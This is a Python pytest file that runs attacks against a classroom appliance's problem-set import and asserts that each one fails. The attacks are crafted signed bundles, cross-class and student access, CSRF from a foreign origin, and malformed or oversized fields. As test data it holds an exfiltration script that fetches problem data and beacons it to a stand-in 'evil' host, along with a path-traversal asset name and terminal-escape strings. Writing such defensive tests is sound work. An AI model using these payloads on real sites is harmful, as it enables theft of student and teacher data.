"""Attacks on down-sync on a classroom (an in-process server on its real SQLite file): a crafted
problem set signed by a trusted publisher's key (stolen, or a publisher that went rogue), teachers
of other classes, students with curl, and cross-site pages. Each attack must fail, with a stable
code and nothing written."""

from __future__ import annotations

import hashlib
from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from appliance import problem_sets, problem_sets_trust
from appliance.app_keys import BLOBS, DB, SETTINGS
from appliance.file_kinds import KINDS
from appliance.sync_bundle import BundleRefused
from tests.conftest import ApiClient, LiveServer, class_with
from tests.sync.attack_bundles import SECRET_IN, SECRET_OUT, Signer, problem, problem_set
from tests.sync.problem_set_fixtures import IMPORT_TABLES

ServerFactory = Callable[..., Awaitable[LiveServer]]


async def _trusting(server: LiveServer, signer: Signer) -> None:
    await problem_sets_trust.add(server.app[DB], "Central", signer.public_key)


async def _receive(server: LiveServer, raw: bytes) -> problem_sets.Received:
    return await problem_sets.receive(server.app[DB], server.app[BLOBS], server.app[SETTINGS], raw)


def _written(server: LiveServer) -> dict[str, Any]:
    rows = server.db_rows()
    blobs = sorted(p.name for p in (server.settings.data_dir / "blobs").rglob("*") if p.is_file())
    return {**{table: rows.get(table) for table in IMPORT_TABLES}, "blobs": blobs}


def _asset(name: str, data: bytes, kind: str, media_type: str, *, in_workdir: bool = False) -> dict[str, Any]:
    digest = hashlib.sha256(data).hexdigest()
    return {"name": name, "kind": kind, "media_type": media_type, "size": len(data), "sha256": digest,
            "in_workdir": in_workdir}  # fmt: skip


async def test_a_sets_assets_are_judged_like_a_teachers_upload(server_factory: ServerFactory) -> None:
    """A set's asset metadata is the publisher's word: served verbatim, text/html or a script type
    from this origin would run in students' browsers (CSP allows scripts from 'self'). The kind and
    media type must come from the bytes, as for an upload, and the upload limits apply."""
    server = await server_factory(asset_max_bytes=4096, job_files_max_bytes=6000)
    signer = Signer()
    await _trusting(server, signer)
    page = b"<!doctype html><script src='evil.js'></script>"
    script = b"fetch('/api/problems').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
    record = problem(
        assets=[
            _asset("page.html", page, "text", "text/html"),
            _asset("evil.js", script, "source", "text/javascript"),
        ]
    )
    raw = problem_set(signer, [record], {f"assets/{a['sha256']}": d for a, d in
                                         zip(record["assets"], (page, script), strict=True)})  # fmt: skip
    received = await _receive(server, raw)

    teacher = await server.make_user("teacher")
    student = await server.make_user("student")
    klass = await class_with(teacher, [student])
    reply = await teacher.post(
        f"/api/problem-sets/{received.inbox_id}/import", json={"problems": [1], "classes": [klass["id"]]}
    )
    assert reply.status == 200, reply
    local = reply.json["imported"][0]["problem_id"]
    assets = (await teacher.get(f"/api/problems/{local}/assets")).json["assets"]
    served_types = set()
    for asset in assets:
        served = await student.get(asset["url"])
        assert served.status == 200, served
        served_types.add(served.headers["Content-Type"].split(";")[0])
    allowed = {kind.media_type for kind in KINDS.values()}
    assert served_types <= allowed, served_types
    assert not served_types & {"text/html", "text/javascript", "application/javascript"}

    # Too large for asset_max_bytes, an archive, or in_workdir past job_files_max_bytes: refused whole.
    before = _written(server)
    big = b"x" * 5000
    zipped = b"PK\x03\x04" + b"\0" * 40
    workdir = [b"a" * 3500, b"b" * 3500]
    crafted = {
        "too large": ([_asset("big.txt", big, "text", "text/plain")], [big]),
        "archive": ([_asset("a.txt", zipped, "text", "text/plain")], [zipped]),
        "workdir": (
            [_asset(f"{n}.txt", d, "text", "text/plain", in_workdir=True) for n, d in zip("ab", workdir, strict=True)],
            workdir,
        ),
    }
    for version, (what, (listed, datas)) in enumerate(crafted.items(), start=2):
        members = {f"assets/{a['sha256']}": d for a, d in zip(listed, datas, strict=True)}
        with pytest.raises(BundleRefused) as refused:
            await _receive(server, problem_set(signer, [problem(assets=listed)], members, version=version))
        assert refused.value.code == "bundle_malformed", what
        assert _written(server) == before, what


@pytest.mark.parametrize(
    "changes",
    [
        {"time_limit_ms": 10**9},
        {"memory_limit_mb": 10**6},
        {"language": "cobol"},
        {"title": "\x00"},
        {"title": "x" * 10_000},
        {"comparison": "eval"},
        {"tolerance": float("1e308")},
        {"hidden_feedback": "everything"},
        {"test_cases": [{**problem()["test_cases"][1], "weight": -5}]},
        {"test_cases": [{**problem()["test_cases"][1], "visibility": "public"}]},
        {"test_cases": [problem()["test_cases"][0]] * 100_000},
        {"id": 0},
        {"id": True},
        {"assets": [{"name": "../../x", "kind": "text", "media_type": "text/plain", "size": 1, "sha256": "0" * 64}]},
    ],
    ids=lambda changes: next(iter(changes)) + ":" + repr(next(iter(changes.values())))[:20],
)
async def test_a_problem_with_fields_out_of_range_is_refused_and_nothing_is_written(
    server: LiveServer, changes: dict[str, Any]
) -> None:
    signer = Signer()
    await _trusting(server, signer)
    before = _written(server)
    with pytest.raises(BundleRefused) as refused:
        await _receive(server, problem_set(signer, [problem(**changes)]))
    assert refused.value.code == "bundle_malformed"
    assert _written(server) == before


async def test_a_set_with_more_problems_than_the_setting_allows_is_refused(server_factory: ServerFactory) -> None:
    server = await server_factory(problem_set_max_problems=3)
    signer = Signer()
    await _trusting(server, signer)
    before = _written(server)
    with pytest.raises(BundleRefused) as refused:
        await _receive(server, problem_set(signer, [problem(n, f"P{n}") for n in range(1, 5)]))
    assert refused.value.code == "bundle_malformed" and "problem_set_max_problems" in refused.value.message
    assert _written(server) == before


async def test_kinds_do_not_cross_and_an_untrusted_key_writes_nothing(server: LiveServer) -> None:
    from tests.sync.attack_bundles import classroom

    signer, stranger = Signer(), Signer()
    await _trusting(server, signer)
    before = _written(server)
    for raw, code in (
        (classroom(signer), "bundle_unsupported_kind"),  # a classroom bundle is no problem set
        (problem_set(stranger, [problem()]), "bundle_untrusted_publisher"),
    ):
        with pytest.raises(BundleRefused) as refused:
            await _receive(server, raw)
        assert refused.value.code == code
    assert _written(server) == before


async def _imported(teacher: ApiClient, inbox_id: int, **body: Any) -> Any:
    return await teacher.post(f"/api/problem-sets/{inbox_id}/import", json={"problems": [1], **body})


async def test_teachers_import_only_into_their_own_classes_and_copies(server: LiveServer) -> None:
    """Two teachers import one set: each gets a copy of their own; neither can reach the other's
    class or copy (replace included); students and cross-site pages cannot use the routes at all."""
    signer = Signer()
    await _trusting(server, signer)
    received = await _receive(server, problem_set(signer, [problem()]))
    ann, bob = await server.make_user("teacher"), await server.make_user("teacher")
    student = await server.make_user("student")
    ann_class = await class_with(ann, [student], "Ann's")
    bob_class = await class_with(bob, [], "Bob's")

    before = _written(server)
    reply = await _imported(bob, received.inbox_id, classes=[ann_class["id"]])
    assert (reply.status, reply.error_code) == (400, "unknown_class"), reply
    for attempt in (student.get("/api/problem-sets"), _imported(student, received.inbox_id)):
        reply = await attempt
        assert reply.status in (403, 404) and reply.error_code in ("forbidden", "not_found"), reply
    assert (await student.get("/teach/problem-sets")).status == 404
    evil = server.client(origin="http://evil.example")
    evil.use_session(str(ann.session_cookie))
    reply = await _imported(evil, received.inbox_id, classes=[ann_class["id"]])
    assert (reply.status, reply.error_code) == (403, "csrf_failed"), reply
    no_origin = server.client(origin=None)
    no_origin.use_session(str(ann.session_cookie))
    form = {"problems": "1"}
    reply = await no_origin.post(f"/api/problem-sets/{received.inbox_id}/import", data=form)
    assert (reply.status, reply.error_code) == (403, "csrf_failed"), reply
    assert _written(server) == before

    first = await _imported(ann, received.inbox_id, classes=[ann_class["id"]])
    assert first.status == 200 and first.json["imported"][0]["outcome"] == "created", first
    ann_copy = first.json["imported"][0]["problem_id"]
    assert (await ann.patch(f"/api/problems/{ann_copy}", json={"statement": "Ann's words."})).status == 200
    # Bob's import (even with replace) makes Bob's own copy; Ann's edited copy stays hers and as she left it.
    again = await server.make_user("teacher")
    for teacher, klass in ((bob, bob_class), (again, None)):
        reply = await _imported(
            teacher, received.inbox_id, replace=True, **({"classes": [klass["id"]]} if klass else {})
        )
        assert reply.status == 200 and reply.json["imported"][0]["outcome"] == "created", reply
        assert reply.json["imported"][0]["problem_id"] != ann_copy
    assert (await bob.get(f"/api/problems/{ann_copy}")).status == 404
    assert (await ann.get(f"/api/problems/{ann_copy}")).json["statement"] == "Ann's words."

    # The inbox list never carries a test's content, for staff either.
    for teacher in (ann, bob):
        listing = await teacher.get("/api/problem-sets")
        assert listing.status == 200 and SECRET_IN not in listing.text and SECRET_OUT not in listing.text
    # The student of Ann's class sees the problem with its visible test only.
    seen = await student.get(f"/api/problems/{ann_copy}")
    assert seen.status == 200 and SECRET_IN not in seen.text and SECRET_OUT not in seen.text


async def test_a_second_publisher_reusing_a_sets_id_and_problem_ids_cannot_touch_the_first_ones_copies(
    server: LiveServer,
) -> None:
    """Set ids are the publisher's word: another trusted publisher (staging, a second central) may
    choose the central's set id and problem ids on purpose. Its set is its own inbox entry, and
    importing it makes new copies: the origin mapping is keyed by the publisher's key too."""
    central, other = Signer(), Signer(appliance_id="cd" * 16)
    await problem_sets_trust.add(server.app[DB], "Central", central.public_key)
    await problem_sets_trust.add(server.app[DB], "Other", other.public_key)
    genuine = await _receive(server, problem_set(central, [problem(1, "Genuine")], set_id="77" * 16))
    teacher = await server.make_user("teacher")
    first = await _imported(teacher, genuine.inbox_id)
    assert first.status == 200, first
    copy = first.json["imported"][0]["problem_id"]
    before = (await teacher.get(f"/api/problems/{copy}")).json

    lookalike = problem(1, "Genuine", statement="Changed by the other publisher.", test_cases=[])
    collided = await _receive(server, problem_set(other, [lookalike], set_id="77" * 16, version=9))
    assert collided.inbox_id != genuine.inbox_id
    reply = await _imported(teacher, collided.inbox_id, replace=True)
    assert reply.status == 200 and reply.json["imported"][0]["outcome"] == "created", reply
    assert reply.json["imported"][0]["problem_id"] != copy
    assert (await teacher.get(f"/api/problems/{copy}")).json == before


@pytest.mark.parametrize(
    "head",
    [{"version": 1 << 64}, {"name": "Week\x1b[2J 1"}, {"name": "Week 1\u202e"}, {"name": "Week\x00"}],
    ids=["huge version", "terminal escape", "bidi override", "nul"],
)
async def test_a_set_whose_version_or_name_cannot_be_stored_or_shown_plainly_is_refused(
    server: LiveServer, head: dict[str, Any]
) -> None:
    signer = Signer()
    await _trusting(server, signer)
    before = _written(server)
    with pytest.raises(BundleRefused) as refused:
        await _receive(server, problem_set(signer, [problem()], **head))
    assert refused.value.code == "bundle_malformed"
    assert _written(server) == before
